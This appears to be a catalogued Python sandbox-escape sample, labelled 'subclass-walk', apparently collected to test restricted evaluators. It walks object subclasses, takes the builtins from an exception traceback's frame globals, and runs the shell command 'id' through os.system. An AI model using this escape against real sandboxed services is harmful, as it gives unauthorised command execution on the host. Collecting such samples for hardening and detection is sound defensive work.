# Source: https://healeycodes.com/running-untrusted-python-code (lookup = lambda n: [x for x in (1).__class__.__base__.__subclasses__() ...])
# Family: subclass-walk
# What: a lambda lookup helper over subclasses, then BaseException's traceback frame
lookup = lambda n: [x for x in (1).__class__.__base__.__subclasses__() if x.__name__ == n][0]
try:
    lookup("NoSuchName")
except IndexError as e:
    e.__traceback__.tb_frame.f_globals["__builtins__"].__import__("os").system("id")
